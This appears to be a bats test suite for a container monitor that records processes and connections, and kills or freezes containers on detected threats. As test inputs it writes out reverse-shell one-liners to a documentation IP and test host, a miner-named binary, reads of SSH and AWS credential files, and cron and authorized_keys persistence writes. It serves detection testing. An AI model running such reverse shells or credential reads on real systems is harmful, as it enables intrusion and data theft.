#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# Watching a container: what it runs and whom it connects to is recorded; threats are
# acted upon; what was not seen is said.

setup_file() {
	load ../lib/common
	coi_setup
	settings true true
}

teardown_file() {
	load ../lib/common
	coi_teardown
}

setup() {
	load ../lib/common
	load ../lib/watched
	cd "$T/ws"
	A=$HOME/.coi/audit
	settings true true
}

settings() { # PAUSE KILL
	printf '[container]\ninit = "coi-init"\n[monitoring]\nenabled = true\nauto_pause_on_high = %s\nauto_kill_on_critical = %s\n' \
		"$1" "$2" >"$HOME/.coi/config.toml"
}

@test "each program that runs is in the record, with words, numbers and the file behind it" {
	launch w1
	inside w1 bash -c 'ln -s /usr/bin/bash /tmp/innocent; exec -a other /tmp/innocent -c : "two words" "$1"' x "it's"
	within 10 has "$A/w1.jsonl" '.type == "exec" and .exe == "bash" and .comm == "innocent"'
	has "$A/w1.jsonl" '.exe == "bash" and .uid == 0 and .pid > 0 and .ppid > 0'
	[ "$(jq -r 'select(.exe == "bash").args' "$A/w1.jsonl")" = "other -c : 'two words' 'it'\\''s'" ]
	# What ran before the watching is there too, and says so.
	has "$A/w1.jsonl" '.type == "exec" and .args == "/run/coi/init" and .was_running'
	has "$A/w1.jsonl" '.type == "audit" and .msg == "source.start" and .source == "exec"'
	coi audit verify w1
	gone w1
}

@test "short ones by the thousand: none is missing" {
	local n
	n=$(long 3000 10000)
	launch w2
	inside w2 bash -c "for ((i = 0; i < $n; i++)); do /bin/true nr-\$i; done"
	within 60 has "$A/w2.jsonl" '.type == "exec" and .args == "/bin/true nr-'$((n - 1))'"'
	[ "$(jq -r 'select(.type == "exec") | .args' "$A/w2.jsonl" | grep -c '^/bin/true nr-' )" = "$n" ]
	[ "$(jq -r 'select(.type == "exec") | .args' "$A/w2.jsonl" | sed -n 's/^.bin.true nr-//p' | sort -nu | wc -l)" = "$n" ]
	not has "$A/w2.jsonl" '.msg == "source.lost"'
	coi audit verify w2
	gone w2
}

@test "what a container calls its programs harms nobody who reads it" {
	launch w3
	inside w3 bash -c '/bin/echo "$(printf "a\033]0;title\007b\nnext \377\342\200\256")"'
	inside w3 bash -c '/bin/true "$(printf %0120000d 7)" end' || true
	within 10 has "$A/w3.jsonl" '.comm == "true" and .args_bytes > 120000'
	not grep -qP '[\x00-\x08\x0e-\x1f\x7f]' "$A/w3.jsonl"
	grep -q 'a\\\\x1b\]0;title\\\\x07b\\\\x0anext \\\\xff' "$A/w3.jsonl"
	coi audit w3 --format text >"$T/text"
	not grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
	# A secret in a command line is not in the record.
	inside w3 /bin/true --password hunter2 TOKEN=hunter2
	within 10 grep -q 'password' "$A/w3.jsonl"
	not grep -q hunter2 "$A/w3.jsonl"
	gone w3
}

@test "two containers: each has its own" {
	launch w4
	launch w5
	inside w4 /bin/true only-four
	inside w5 /bin/true only-five
	within 10 grep -q only-four "$A/w4.jsonl"
	within 10 grep -q only-five "$A/w5.jsonl"
	not grep -q only-five "$A/w4.jsonl"
	not grep -q only-four "$A/w5.jsonl"
	gone w4
	gone w5
}

@test "critical: recorded, then dead, and the record is whole" {
	local from to
	launch k1
	from=$(date +%s%N)
	inside k1 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- || true
	within 10 not_running k1
	to=$(date +%s%N)
	echo "# command given to container gone: $(((to - from) / 1000000)) ms" >&3
	coi logs k1 | grep -o 'all of it is dead.*' | sed 's/^/# /' >&3
	has "$A/k1.jsonl" '.level == "critical" and .action == "killed" and .category == "process" and
		.title == "Reverse shell" and (.evidence.process.command | test("/dev/tcp/203.0.113.10/4444")) and
		.evidence.process.pid > 0 and (.id | length) == 36'
	# The exec itself is there, before what was found in it.
	[ "$(jq -r 'select((.type == "exec" and (.args | test("dev/tcp"))) or .level == "critical") | .type // "threat"' "$A/k1.jsonl" | head -n 2 | xargs)" = "exec threat" ]
	has "$A/k1.jsonl" '.type == "container.stop" and (.reason | test("Reverse shell"))'
	coi audit verify k1
	coi logs k1 | grep -q 'killed; why: threat: Reverse shell'
	# Kept, and started again it is watched again.
	coi container start k1
	inside k1 /bin/true again
	within 10 grep -q '/bin/true again' "$A/k1.jsonl"
	gone k1
}

@test "a shell on a socket is found whatever is written anywhere" {
	launch k2
	printf 'exec 3<>/dev/tcp/public.test/80\nsh <&3 >&3 2>&3\n' >"$T/ws/x"
	chmod 0644 "$T/ws/x"
	coi file push "$T/ws/x" k2:/tmp/x
	inside k2 bash /tmp/x 3>&- >/dev/null 2>&1 || true
	within 10 not_running k2
	has "$A/k2.jsonl" '.level == "critical" and .evidence.process.pattern == "reverse-shell.socket"'
	has "$A/k2.jsonl" '.type == "exec" and .stdio == "remote remote remote"'
	gone k2
}

@test "high: frozen; unfreeze says for what, and the same again freezes it again" {
	launch f1
	inside f1 sh -c 'ln -s /usr/bin/bash /tmp/xmrig; /tmp/xmrig -c :' 3>&- &
	local pid=$!
	within 10 has "$A/f1.jsonl" '.level == "high" and .action == "paused"'
	frozen f1
	run -0 coi unfreeze f1
	echo "$output"
	grep -q 'f1 was frozen for: .* high process Attack tool' <<<"$output"
	wait "$pid"
	has "$A/f1.jsonl" '.type == "container.unfreeze" and (.frozen_for | length) == 36'
	sleep 1.2
	inside f1 /tmp/xmrig -c : 3>&- &
	pid=$!
	within 10 frozen f1
	[ "$(count "$A/f1.jsonl" '.action == "paused"')" = 2 ]
	run -0 coi unfreeze
	grep -q 'No frozen containers found' <<<"$output" # it has no name of a session
	coi unfreeze f1
	wait "$pid"
	gone f1
	# One that has is among all of them.
	launch coi-f2
	inside coi-f2 sh -c 'ln -s /usr/bin/bash /tmp/xmrig; /tmp/xmrig -c :' 3>&- &
	pid=$!
	within 10 frozen coi-f2
	run -0 coi unfreeze
	grep -q 'Unfroze 1 container' <<<"$output"
	wait "$pid"
	gone coi-f2
}

@test "warnings are recorded once in a while, and nothing is stopped by them" {
	launch a1
	for _ in 1 2 3 4 5; do inside a1 env >/dev/null; done
	within 10 has "$A/a1.jsonl" '.level == "warning" and .category == "environment" and .action == "alerted"'
	[ "$(count "$A/a1.jsonl" '.category == "environment"')" = 1 ]
	running a1
	# The others are counted, and told when the container ends.
	gone a1
	has "$A/a1.jsonl" '.category == "environment" and .action == "deduplicated" and .count == 4'
}

@test "with both actions off everything is recorded and nothing is done" {
	settings false false
	launch o1
	inside o1 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- || true
	within 10 has "$A/o1.jsonl" '.level == "critical" and .action == "alerted"'
	running o1
	not frozen o1
	gone o1
}

@test "connections: recorded with what became of them; private ones and control ports are threats" {
	settings false false
	launch n1
	inside n1 bash -c ': >/dev/tcp/203.0.113.10/80' || true
	inside n1 bash -c ': >/dev/tcp/10.9.9.9/80' || true
	inside n1 bash -c ': >/dev/tcp/169.254.169.254/80' || true
	inside n1 bash -c ': >/dev/tcp/127.0.0.1/4444' || true
	within 10 has "$A/n1.jsonl" '.type == "net" and .peer == "203.0.113.10:80" and .state == "connect" and .comm == "bash" and .proto == "tcp"'
	within 10 has "$A/n1.jsonl" '.type == "net" and .peer == "10.9.9.9:80" and .state == "refused"'
	within 10 has "$A/n1-nft.jsonl" '.level == "warning" and .rule == "network.private" and .evidence.network.connection.remote_addr == "10.9.9.9:80"'
	within 10 has "$A/n1-nft.jsonl" '.level == "warning" and .rule == "network.metadata"'
	not grep -q '127.0.0.1' "$A/n1-nft.jsonl"
	inside n1 bash -c ': >/dev/tcp/203.0.113.10/31337' || true
	within 10 has "$A/n1-nft.jsonl" '.level == "critical" and .rule == "network.control-port"'
	coi audit verify n1
	# One view of both files.
	coi audit n1 --category network --level critical | jq -e '.rule == "network.control-port"'
	gone n1
}

@test "words that grow when they are written down end no watcher" {
	local pid word
	settings false false
	launch w15
	pid=$(watcher_of w15)
	word=$(printf '\\001%.0s' {1..63})
	# Each as long as it is recorded, and several at once.
	inside w15 bash -c 'word=$(printf "$1"); for i in {1..250}; do words+=("$word"); done
		for i in {1..40}; do /bin/true "nr-$i" "${words[@]}" & done; wait; /bin/true last' x "$word"
	within 20 has "$A/w15.jsonl" '.type == "exec" and .args == "/bin/true last"'
	expect_equal "$(watcher_of w15)" "$pid"
	expect_equal "$(jq -r 'select(.type == "exec").args' "$A/w15.jsonl" | grep -c '^/bin/true nr-')" 40
	not has "$A/w15.jsonl" '.msg == "source.gap" or .msg == "source.lost"'
	gone w15
}

@test "a watcher that dies is started again, and the gap is recorded" {
	launch g1
	local first second
	first=$(watcher_of g1)
	[ -n "$first" ]
	kill -9 "$first"
	within 10 has "$A/g1.jsonl" '.msg == "source.gap" and .level == "warning" and (.since | length) > 0'
	second=$(watcher_of g1)
	[ "$first" != "$second" ]
	within 10 again_seen g1
	gone g1
}

@test "a watcher that cannot be started again: said once, and not each second" {
	local log=$COI_ROOT/containers/g3/supervisor.log
	mkdir "$T/libexec"
	ln -s "$COI_TEST_BUILD"/coi-* "$T/libexec"
	COI_LIBEXEC=$T/libexec launch g3
	rm "$T/libexec/coi-watch"
	kill -9 "$(watcher_of g3)"
	within 10 grep -q "cannot start '.*coi-watch'" "$log"
	sleep 4
	cat "$log"
	expect_equal "$(grep -c "cannot start '.*coi-watch'" "$log")" 1
	ln -s "$COI_TEST_BUILD/coi-watch" "$T/libexec"
	within 10 has "$A/g3.jsonl" '.msg == "source.gap" and .level == "warning"'
	within 10 again_seen g3
	gone g3
}

@test "a watcher that is gone, or does not answer, when the container ends: that is recorded" {
	local pid
	ended_unseen() { # NAME
		has "$A/$1.jsonl" '.msg == "source.gap" and .level == "warning" and (.since | length) > 0 and (.raw | test("told all"))'
	}
	launch g6
	kill -STOP "$(watcher_of g6)"
	inside g6 /bin/true unseen
	coi container stop --force g6
	within 10 ended_unseen g6
	not has "$A/g6.jsonl" '.args == "/bin/true unseen"'
	# It is started again, and dies at once: the next one comes later than the end.
	launch g7
	pid=$(watcher_of g7)
	kill -9 "$pid"
	within 10 another_watcher g7 "$pid"
	kill -9 "$(watcher_of g7)"
	coi container stop --force g7
	within 10 ended_unseen g7
	# One that tells all has no gap.
	launch g8
	inside g8 /bin/true seen
	coi container stop --force g8
	has "$A/g8.jsonl" '.args == "/bin/true seen"'
	not has "$A/g8.jsonl" '.msg == "source.gap"'
	for name in g6 g7 g8; do gone $name; done
}

again_seen() { # it sees what is run from now on
	inside "$1" /bin/true again-$RANDOM-x
	sleep 0.2
	tail -n 3 "$A/$1.jsonl" | grep -q 'again-.*-x'
}

@test "a supervisor that dies: the next command's goes on watching, and the gap is recorded" {
	launch g2
	kill -9 "$(pid_of g2 supervisor)"
	# A command that comes before it is dead has nothing to do.
	gap_told() { running g2 && has "$A/g2.jsonl" '.msg == "source.gap" and (.raw | test("supervisor"))'; }
	within 20 gap_told
	within 20 again_seen g2
	inside g2 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- || true
	within 10 not_running g2
	gone g2
}

@test "where nobody tells it is looked for, and the record says what is not seen then" {
	COI_WATCH_BACKENDS=exec=poll,connect=none launch p1
	has "$A/p1.jsonl" '.msg == "source.unavailable" and .source == "exec" and .backend == "bpf"'
	has "$A/p1.jsonl" '.msg == "source.start" and .source == "exec" and .backend == "poll" and (.raw | test("shorter"))'
	has "$A/p1.jsonl" '.msg == "source.unavailable" and .source == "connect"'
	not has "$A/p1.jsonl" '.msg == "source.start" and .source == "connect"'
	inside p1 sleep 5
	has "$A/p1.jsonl" '.type == "exec" and .args == "sleep 5"'
	gone p1
	# As often as the settings say: what is over before that is not seen.
	printf 'poll_interval_sec = 60\n' >>"$HOME/.coi/config.toml"
	COI_WATCH_BACKENDS=exec=poll,connect=none launch p2
	inside p2 sleep 5
	not has "$A/p2.jsonl" '.type == "exec" and .args == "sleep 5"'
	gone p2
}

@test "nothing is watched that nobody wants watched" {
	printf '[container]\ninit = "coi-init"\n' >"$HOME/.coi/config.toml"
	launch q1
	inside q1 /bin/true x
	[ -z "$(watcher_of q1)" ]
	not has "$A/q1.jsonl" '.type == "exec"'
	gone q1
}

run_time() { # PID: microseconds
	awk '{ printf "%d\n", $1 / 1000 }' "/proc/$1/schedstat"
}

wakes_of() { # PID
	awk '/^voluntary_ctxt_switches/ { print $2 }' "/proc/$1/status"
}

@test "the watcher has no rights and nobody's user, and does nothing while nothing happens" {
	launch r1
	local pid before after peer peer_before peer_after wakes
	pid=$(watcher_of r1)
	grep -q '^CapEff:[[:space:]]*0000000000000000$' "/proc/$pid/status"
	grep -q '^CapPrm:[[:space:]]*0000000000000000$' "/proc/$pid/status"
	grep -q '^Seccomp:[[:space:]]*2$' "/proc/$pid/status"
	grep -q '^NoNewPrivs:[[:space:]]*1$' "/proc/$pid/status"
	[ "$(awk '/^Uid:/ { print $2 }' "/proc/$pid/status")" -gt 2000000000 ]
	[ -z "$(ls "/proc/$pid/root/")" ]
	# Beside a process that does nothing but wake up as often, since that may cost a
	# machine more than what is done then: less than a tick (10 ms) more, and no more wakes.
	/usr/bin/python3 -c 'import time
while True:
    time.sleep(2)' 3>&- &
	peer=$!
	sleep 1
	before=$(run_time $pid) peer_before=$(run_time $peer) wakes=$(wakes_of $pid)
	sleep "$(long 5 30)"
	after=$(run_time $pid) peer_after=$(run_time $peer) wakes=$(($(wakes_of $pid) - wakes))
	kill $peer
	echo "# us of CPU while idle: $((after - before)), of who only wakes: $((peer_after - peer_before))" >&3
	[ $((after - before - (peer_after - peer_before))) -lt 10000 ]
	[ "$wakes" -le "$(long 5 24)" ]
	gone r1
}

@test "a full disk: it goes on, what was lost is counted and said, and a threat finds its room" {
	mkdir -p "$A"
	mount -t tmpfs -o size=1m,mode=700 none "$A"
	launch d1
	inside d1 bash -c 'for ((i = 0; i < 4000; i++)); do /bin/true "$i-0123456789012345678901234567890123456789"; done'
	sleep 1
	inside d1 env >/dev/null
	within 10 has "$A/d1.jsonl" '.category == "environment"'
	local before
	before=$(jq -r 'select(.type == "exec").args' "$A/d1.jsonl" | grep -c '/bin/true')
	[ "$before" -lt 4000 ]
	mount -o remount,size=8m "$A"
	inside d1 /bin/true afterwards
	within 10 has "$A/d1.jsonl" '.msg == "records.lost" and .count > 0 and (.raw | test("No space left"))'
	[ "$(jq -r 'select(.msg == "records.lost").count' "$A/d1.jsonl" | awk '{ n += $1 } END { print n }')" -ge "$((4000 - before))" ]
	coi audit verify d1
	coi logs d1 | grep -q 'No space left'
	gone d1
	umount "$A"
}

@test "records of what is too old go when something starts" {
	settings true true
	printf 'audit_log_retention_days = 7\n' >>"$HOME/.coi/config.toml"
	launch t1
	gone t1
	touch -d '8 days ago' "$A/t1.jsonl"
	launch t2
	within 5 test ! -e "$A/t1.jsonl"
	[ ! -e "$A/t1.head" ]
	gone t2
}

@test "amounts: a warning when much is written at once, high for too many processes" {
	settings false false
	printf 'file_read_threshold_mb = 5.0\nprocess_count_threshold = 20\npoll_interval_sec = 1\n' >>"$HOME/.coi/config.toml"
	launch v1
	has "$A/v1.jsonl" '.msg == "source.start" and .source == "counters"'
	inside v1 sh -c 'dd if=/dev/zero of=/root/x bs=1M count=40 oflag=direct'
	within 15 has "$A/v1.jsonl" '.level == "warning" and .title == "Much is written" and
		.evidence.file_write.write_bytes_mb > 5 and .evidence.file_write.threshold_mb == 5'
	inside v1 bash -c 'for ((i = 0; i < 25; i++)); do sleep 4 & done; wait' 3>&- &
	within 15 has "$A/v1.jsonl" '.level == "high" and .title == "Many processes" and .evidence.process_count.count > 20 and
		.evidence.process_count.threshold == 20'
	wait $!
	gone v1
}

@test "amounts: who has much to tell does not divide an interval" {
	local name supervisor n
	settings false false
	printf 'file_read_threshold_mb = 5.0\npoll_interval_sec = 3600\n' >>"$HOME/.coi/config.toml"
	make_workspace "$T/parts"
	head -c 8000000 /dev/urandom >"$T/parts/data"
	cd "$T/parts"
	sleep 1.1 # what has changed since the watching began is no part of it
	name=$(container_name)
	coi run -- sleep 100 >/dev/null 2>&1 3>&- &
	within 10 coi container running "$name"
	supervisor=$(sed -n 's/^supervisor *= *\([0-9]*\).*/\1/p' "$COI_ROOT/containers/$name/container.ini")
	for n in 0 1; do
		# More than what waits to be told has room for.
		kill -STOP "$supervisor"
		inside "$name" bash -c 'dd if=/workspace/data of=/dev/null bs=1M count=4 skip=$((4 * '$n'))
			printf -v x "%030000d" 0; for ((i = 0; i < 250; i++)); do /bin/true $x; done' 2>/dev/null
		kill -CONT "$supervisor"
		inside "$name" /bin/true "the end $n"
		within 30 has "$A/$name.jsonl" '.type == "exec" and (.args // "" | contains("the end '$n'"))'
	done
	coi kill --force "$name"
	wait $! || true
	within 10 has "$A/$name.jsonl" '.level == "warning" and .title == "Much of the workspace is read"'
}

@test "amounts: a disk that nobody has asked about is counted, too" {
	local loop
	settings false false
	# On control groups of version 1 a disk counts when something was limited on it.
	truncate -s 200M "$T/disk.img"
	mkfs.ext4 -q "$T/disk.img"
	mkdir "$T/fresh"
	loop=$(losetup --find --show "$T/disk.img")
	mount "$loop" "$T/fresh"
	make_workspace "$T/fresh/ws"
	cd "$T/fresh/ws"
	coi run -- sh -c 'dd if=/dev/zero of=x bs=1M count=60 oflag=direct; sleep 2.5'
	within 10 has "$A/$(container_name).jsonl" '.level == "warning" and .title == "Much is written"'
	cd "$T"
	within 10 umount "$T/fresh"
	losetup --detach "$loop"
}

READ='.level == "warning" and .title == "Much of the workspace is read"'

records_of() { # of whichever slot of this workspace
	local name
	name=$(container_name)
	cat "$A/${name%1}"[0-9].jsonl
}

read_told() { # COUNT: so often it was told in all
	[ "$(records_of | jq -c "select($READ)" | wc -l)" = "$1" ]
}

@test "much of the workspace is read: a warning, from the disk or from memory, whoever looks through what" {
	local n=0 how
	settings false false
	# More than twice the threshold, so that it is passed in one of two intervals.
	printf 'poll_interval_sec = 5\n' >>"$HOME/.coi/config.toml"
	make_workspace "$T/much"
	head -c 110M /dev/urandom >"$T/much/data"
	chown 1234:1234 "$T/much/data"
	cd "$T/much"
	sleep 1.1 # what has changed since the watching began is no part of it
	sync
	echo 3 >/proc/sys/vm/drop_caches
	for how in 'tar -cf - data' 'tar -cf - data' 'exec cat data' 'cp data /tmp/x' \
		'unshare -rm sh -c "mkdir /tmp/b; mount --rbind /workspace /tmp/b; cat /tmp/b/data"'; do
		coi run -- sh -c "$how" | wc -c
		n=$((n + 1))
		within 10 read_told $n || { echo "$how"; false; }
	done
	# Once read it is known, and what is its own is its own.
	coi run -- sh -c 'head -c 20000000 data >/dev/null; cat data >/tmp/x; cat data >/tmp/y; cp data mine; cat mine mine | wc -c'
	within 10 read_told $((n + 1))
	records_of | jq -se "all(.[] | select($READ); .evidence.filesystem.read_bytes_mb < 111)"
	rm mine
	# Nobody is there who counts it: said.
	COI_WATCH_BACKENDS=volume=none coi run -- sh -c 'cat data | wc -c'
	nobody_counts() { records_of | grep '"source.unavailable"' | grep -q '"source":"volume"'; }
	within 10 nobody_counts
	read_told $((n + 1))
}

@test "many new programs a second: frozen" {
	printf 'process_spawn_rate_threshold = 50\n' >>"$HOME/.coi/config.toml"
	launch s1
	inside s1 bash -c 'for ((i = 0; i < 200; i++)); do /bin/true; done' 3>&- &
	within 10 frozen s1
	has "$A/s1.jsonl" '.level == "high" and .title == "Many new programs" and .action == "paused"'
	coi unfreeze s1
	# It may pass the rate again at once, and is frozen again then.
	gone s1
	wait $! || true
}

@test "few new processes a second, of no program: a low threshold sees them" {
	printf 'process_spawn_rate_threshold = 10\n' >>"$HOME/.coi/config.toml"
	launch s2
	# What is left of a tenth of a second is told when the next process is made.
	inside s2 bash -c 'mkfifo /tmp/f; exec 9<>/tmp/f; for ((i = 0; i < 14; i++)); do (:); done
		for ((i = 0; i < 20; i++)); do read -r -t 0.2 -u 9; (:); done' 3>&- &
	within 10 frozen s2
	has "$A/s2.jsonl" '.level == "high" and .title == "Many new processes"'
	gone s2
	wait $! || true
}

# As a person's tool would: no program that a rule knows, nothing on the command line.
secrets_are_seen() { # NAME BACKEND
	settings false false
	coi container launch coi-default "$1"
	inside "$1" sh -c 'mkdir -p /root/.ssh /home/code/.aws; echo key >/root/.ssh/id_rsa; echo key >/home/code/.aws/credentials; echo x >/root/.netrc'
	coi container stop --force "$1"
	coi container start "$1"
	has "$A/$1.jsonl" '.msg == "source.start" and .source == "files" and (.backend | test("^'"$2"'$"))'
	read_quietly "$1" /root/.ssh/id_rsa
	within 10 has "$A/$1.jsonl" '.level == "high" and .category == "credential_access" and .evidence.sensitive_file.path == "/root/.ssh/id_rsa"'
	# Another name, in another directory, of which nothing is watched.
	inside "$1" bash -c 'ln /home/code/.aws/credentials /tmp/harmless'
	read_quietly "$1" /tmp/harmless
	within 10 has "$A/$1.jsonl" '.evidence.sensitive_file.path == "/home/code/.aws/credentials"'
	# Another mount namespace, and a bind.
	inside "$1" unshare -m sh -c 'mkdir /tmp/b; mount --bind /root /tmp/b; read x </tmp/b/.netrc'
	within 10 has "$A/$1.jsonl" '.evidence.sensitive_file.path == "/root/.netrc" and .level == "high"'
	gone "$1"
}

persistence_is_seen() { # NAME BACKEND
	settings false false
	coi container launch coi-default "$1"
	inside "$1" mkdir -p /etc/cron.d /root/.ssh
	coi container stop --force "$1"
	coi container start "$1"
	has "$A/$1.jsonl" '.msg == "source.start" and .source == "files" and (.backend | test("^'"$2"'$"))'
	inside "$1" bash -c 'f=$1; : >"$f"' x /etc/cron.d/job
	within 10 has "$A/$1.jsonl" '.level == "high" and .category == "persistence" and .evidence.sensitive_file.path == "/etc/cron.d/job"'
	inside "$1" bash -c 'f=$1; echo x >>"$f"' x /root/.bashrc
	within 10 has "$A/$1.jsonl" '.level == "warning" and .category == "persistence" and .evidence.sensitive_file.path == "/root/.bashrc"'
	inside "$1" bash -c 'f=$1; : >/tmp/k; mv /tmp/k "$f"' x /root/.ssh/authorized_keys
	within 10 has "$A/$1.jsonl" '.level == "high" and .evidence.sensitive_file.path == "/root/.ssh/authorized_keys"'
	# Ordinary files beside them are nobody's business.
	inside "$1" bash -c 'f=$1; : >"$f"' x /root/notes
	inside "$1" bash -c 'f=$1; : >"$f"' x /etc/motd
	sleep 0.3
	not grep -q '/root/notes\|/etc/motd' <(jq -r '.path // empty' "$A/$1.jsonl")
	gone "$1"
}

# An event whose file has a lease by the time that it is read.
what_cannot_be_opened_is_lost() { # NAME
	local watcher pid
	settings false false
	coi container launch coi-default "$1"
	coi file push "$COI_TEST_BUILD/watch-actor" "$1:/opt/actor" >/dev/null
	inside "$1" sh -c 'chmod 755 /opt/actor; mkdir -p /root/.ssh; echo key >/root/.ssh/id_rsa'
	coi container stop --force "$1"
	coi container start "$1"
	watcher=$(watcher_of "$1")
	mkfifo "$T/$1.end"
	kill -STOP "$watcher"
	"$COI" container exec "$1" -- /opt/actor lease /root/.ssh/id_rsa <"$T/$1.end" >"$T/$1.out" 3>&- &
	pid=$!
	exec 7>"$T/$1.end"
	within 10 grep -q leased "$T/$1.out"
	kill -CONT "$watcher"
	within 10 has "$A/$1.jsonl" '.msg == "source.lost" and .source == "files" and .count == 1'
	exec 7>&-
	wait "$pid"
	gone "$1"
}

@test "secrets: seen by whatever name and mount they are opened; their own programs may" {
	secrets_are_seen m1 "fanotify.*"
}

@test "persistence: what is written from which things run later" {
	persistence_is_seen m2 "fanotify.*"
}

@test "files: the same where the overlay has no handles, as before Linux 6.6" {
	export COI_WATCH_BACKENDS=files=fanotify-fd
	secrets_are_seen m3 fanotify-fd
	persistence_is_seen m4 fanotify-fd
	what_cannot_be_opened_is_lost m6
	# What is made where a secret was is none; and the disk goes when the container ends.
	settings true true
	printf '[limits.disk]\nsize = "64MiB"\n' >>"$HOME/.coi/config.toml"
	launch m5
	inside m5 bash -c 'mkdir -p /root/.ssh; echo x >/root/.ssh/id_rsa'
	coi container stop --force m5
	settings true true
	printf 'canaries = true\n[limits.disk]\nsize = "64MiB"\n' >>"$HOME/.coi/config.toml"
	coi container start m5
	inside m5 bash -c 'rm /root/.ssh/id_rsa /root/.pypirc; cd /root/.ssh || exit
		for ((i = 0; i < 300; i++)); do echo x >n$i; read x <n$i; done'
	inside m5 /bin/true at-the-end
	within 10 has "$A/m5.jsonl" '.type == "exec" and .args == "/bin/true at-the-end"'
	not has "$A/m5.jsonl" '.level == "high" or .level == "critical" or .msg == "source.lost"'
	read_quietly m5 /root/.vault-token || true
	within 10 has "$A/m5.jsonl" '.title == "Bait taken" and .evidence.sensitive_file.path == "/root/.vault-token"'
	gone m5
	not grep -q m5 <(losetup --noheadings --output BACK-FILE)
}

@test "what the person opens on the host is not the container's" {
	settings false false
	make_workspace "$T/wsp"
	echo x >"$T/wsp/.env"
	chown 1234:1234 "$T/wsp/.env"
	cd "$T/wsp"
	mkfifo "$T/go"
	"$COI" run -- bash -c 'read -r x; f=$1; exec 3<"$f"; read -r x || :' x .env <"$T/go" 3>&- 2>/dev/null &
	local pid=$! name
	exec 7>"$T/go"
	within 20 started
	name=$(basename "$(started)" .jsonl)
	cat "$T/wsp/.env" >/dev/null
	sleep 0.5
	not grep -q '/workspace/.env' "$A/$name.jsonl"
	echo >&7
	# Whose it is can be told while the process is there: on the host's file systems others open too.
	within 10 has "$A/$name.jsonl" '.level == "warning" and .evidence.sensitive_file.path == "/workspace/.env"'
	exec 7>&-
	wait "$pid"
}

started() { # the record of the container in $T/wsp
	local f
	for f in "$A"/coi-*.jsonl; do
		if has "$f" '.type == "container.create" and .workspace == "'"$T/wsp"'"' && has "$f" '.type == "exec" and (.args | test("read -r"))'; then
			echo "$f"
			return 0
		fi
	done
	return 1
}

# What an agent does all day, with the programs of this machine: none of it is to be a threat.
ordinary_work() {
	cat <<'END'
set -eu
export PATH=$PATH:/opt/host/bin LD_LIBRARY_PATH=$LIBS PYTHONHOME=/opt/host NODE_PATH=/opt/host/share/nodejs HOME=/tmp/home
export PYTHONDONTWRITEBYTECODE=1 npm_config_cache=/tmp/npm npm_config_update_notifier=false
mkdir -p "$HOME"
git config --global user.name Ann
git config --global user.email ann@example.org
git clone -q --bare /workspace/seed /tmp/origin.git
git clone -q /tmp/origin.git /tmp/project
cd /tmp/project
git switch -q -c fix/socket-timeout
grep -rn "TODO" . | head -n 5
find . -name '*.c' -not -path './.git/*' | xargs wc -l
sed -i 's/answer = 41/answer = 42/' answer.py
! command -v make || make -s test
! command -v gcc || { gcc -c -O2 -o answer.o answer.c; rm answer.o; }
if command -v python3; then
	python3 -m unittest -q
	python3 -c 'import json, sys; d = {"url": "http://localhost:8080", "at": "12:30:00"}; print(json.dumps(d), sys.version_info[:2])'
	python3 -c 'import os, pathlib; print(pathlib.Path(".").resolve(), os.cpu_count())'
fi
if command -v npm; then
	(cd dep && npm pack --silent)
	npm install --offline --no-audit --no-fund --silent ./dep/dep-1.0.0.tgz
	npm test --silent
	node -e 'console.log(require("dep")(2), process.version, {a: 1, b: ":"})'
fi
tar -czf /tmp/release.tar.gz --exclude .git . 2>/dev/null || tar -czf /tmp/release.tar.gz answer.py
(cd /tmp && sha256sum release.tar.gz >release.sha256 && sha256sum -c release.sha256)
wget -q -T 5 -O /dev/null http://public.test/ || true
git add answer.py
git commit -q -m "fix: the answer; bash -i, nc and /dev/tcp are not mentioned in vain"
git push -q origin HEAD
git log --oneline | cat
ps >/dev/null
sleep 0.1 &
wait
echo all-done
END
}

sample_project() { # DIR
	mkdir -p "$1/dep"
	printf 'answer = 41\n\n\ndef double(n):\n    return 2 * n\n' >"$1/answer.py"
	printf 'import unittest\n\nimport answer\n\n\nclass Answer(unittest.TestCase):\n    def test(self):\n        self.assertEqual(answer.answer, 42)\n' >"$1/test_answer.py"
	printf '/* TODO: more */\nint answer(void) {\n\treturn 42;\n}\n' >"$1/answer.c"
	printf 'test:\n\t@grep -q 42 answer.py && echo passed\n' >"$1/Makefile"
	printf '{"name": "dep", "version": "1.0.0", "main": "index.js"}\n' >"$1/dep/package.json"
	printf 'module.exports = (n) => 2 * n;\n' >"$1/dep/index.js"
	printf '{"name": "sample", "version": "1.0.0", "scripts": {"test": "node -e \\"process.exit(require(%sdep%s)(21) - 42)\\""}}\n' "'" "'" >"$1/package.json"
	printf 'node_modules\n*.tgz\n' >"$1/.gitignore"
	git -C "$1" init -q -b main
	git -C "$1" add .
	git -C "$1" -c user.name=Ann -c user.email=ann@example.org commit -q -m first
}

@test "a day's work of an agent: all of it is recorded, and nothing is above info" {
	local f
	cat >>"$HOME/.coi/config.toml" <<-END
		[[mounts.default]]
		host = "/usr"
		container = "/opt/host"
		readonly = true
	END
	make_workspace "$T/work"
	sample_project "$T/work/seed"
	ordinary_work >"$T/work/do.sh"
	chown -R 1234:1234 "$T/work"
	cd "$T/work"
	# As after a boot: programs and libraries come from the disk.
	sync
	echo 3 >/proc/sys/vm/drop_caches
	LIBS=$(dirname "$(ldd /bin/sh | sed -n 's|.*=> /lib|/opt/host/lib|p' | head -n 1 | sed 's/ .*//')")
	coi run -- env "LIBS=$LIBS" bash /workspace/do.sh >"$T/said" 2>&1 || { cat "$T/said"; false; }
	grep -q '^all-done$' "$T/said" || { cat "$T/said"; false; }
	f=$(grep -l "\"workspace\":\"$T/work\"" "$A"/coi-*.jsonl)
	has "$f" '.type == "exec" and (.args | test("^git clone .*/tmp/project$"))'
	has "$f" '.type == "exec" and (.args | test("sha256sum -c"))'
	if grep -q '^/opt/host/bin/python3$' "$T/said"; then
		has "$f" '.type == "exec" and (.args | test("^python3 -m unittest"))'
	fi
	if grep -q '^/opt/host/bin/npm$' "$T/said"; then
		has "$f" '.type == "exec" and (.args | test("npm install --offline"))'
	fi
	# Threats have a category; records about the watching have none.
	jq -c 'select(.category and .level and .level != "info")' "$f" "${f%.jsonl}-nft.jsonl" 2>/dev/null >"$T/alarms" || true
